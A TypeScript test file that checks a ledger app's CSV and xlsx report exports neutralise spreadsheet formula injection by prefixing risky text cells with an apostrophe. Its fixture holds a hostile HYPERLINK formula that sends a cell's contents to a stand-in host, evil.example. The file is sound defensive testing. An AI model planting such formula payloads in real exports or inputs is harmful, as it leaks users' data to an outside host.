/**
 * Exports never hand a spreadsheet a formula: text cells beginning with =, +, -, @ (or a tab or carriage return)
 * are written with a leading apostrophe, in the CSV and in every xlsx sheet; figures stay numbers.
 */
import { neutralizeText } from '../../cloudfunctions/ledger/src/report-export'
import { SqliteStore } from '../../server/sqlite-store'
import { sessionPayload, envelope } from '../support/fixtures'
import { Ledger, PEOPLE, STATION_A, seedOrg } from '../support/ledger-harness'

const HOSTILE = {
  name: '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")',
  code: '-2+3'
}

let store: SqliteStore
let ledger: Ledger
beforeEach(async () => {
  store = new SqliteStore(':memory:')
  await seedOrg(store)
  await store.putDistrict({ id: 'dist-d', name: '@SUM(1+1)' })
  await store.putStation({ ...STATION_A, name: HOSTILE.name, code: HOSTILE.code }, 1)
  ledger = new Ledger(store)
  await ledger.ok('syncRecords', { records: [envelope('legalSession', 'st-a', sessionPayload({ attendees: 45 }))] }, PEOPLE.mediatorA.identityId)
})
afterEach(() => store.close())

const exported = async (format: 'csv' | 'xlsx') => {
  const file = await ledger.ok<{ base64: string }>('exportReport', { period: { kind: 'year', year: 2026 }, format }, PEOPLE.staffD.identityId)
  return Buffer.from(file.base64, 'base64')
}

describe('neutralizeText', () => {
  it.each([['=1+1', "'=1+1"], ['+86 138', "'+86 138"], ['-5', "'-5"], ['@cmd', "'@cmd"], ['\t=x', "'\t=x"], ['\r=x', "'\r=x"], ['甲街道', '甲街道'], ['a=b', 'a=b'], ['', '']])('%j → %j', (input, output) => {
    expect(neutralizeText(input)).toBe(output)
  })
})

describe('exports', () => {
  it('CSV: the station name, code and district name start with an apostrophe; figures are untouched', async () => {
    const text = (await exported('csv')).toString('utf8')
    const rows = text.split('\r\n')
    expect(rows[0]).toBe("\uFEFF'@SUM(1+1) 劳动关系公共服务站点工作报表")
    const station = rows.find((r) => r.includes('HYPERLINK')) as string
    expect(station.startsWith(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""点此查看"")",'-2+3,`)).toBe(true)
    expect(rows.some((r) => /(^|,)[=+\-@]/.test(r.replace(/"[^"]*"/g, '""')))).toBe(false)
  })

  it('xlsx: no string cell on any sheet begins with a formula character, and no cell is a formula', async () => {
    const { default: ExcelJS } = await import('exceljs')
    const wb = new ExcelJS.Workbook()
    await wb.xlsx.load(await exported('xlsx') as unknown as ArrayBuffer)
    let strings = 0
    let hostile = 0
    wb.eachSheet((ws) => ws.eachRow((row) => row.eachCell((cell) => {
      expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)
      if (typeof cell.value !== 'string') return
      strings++
      if (/^[=+\-@\t\r]/.test(cell.value)) hostile++
      if (cell.value.includes('HYPERLINK')) expect(cell.value.startsWith("'=HYPERLINK")).toBe(true)
    })))
    expect(strings).toBeGreaterThan(20)
    expect(hostile).toBe(0)
    const sessions = wb.worksheets.find((ws) => ws.name.includes('宣传'))
    const row = sessions?.getRows(1, 20)?.find((r) => r.getCell(2).value === "'-2+3")
    expect(row?.getCell(4).value).toBe(1) // after 站点, 站点编码, 报送情况
  })
})
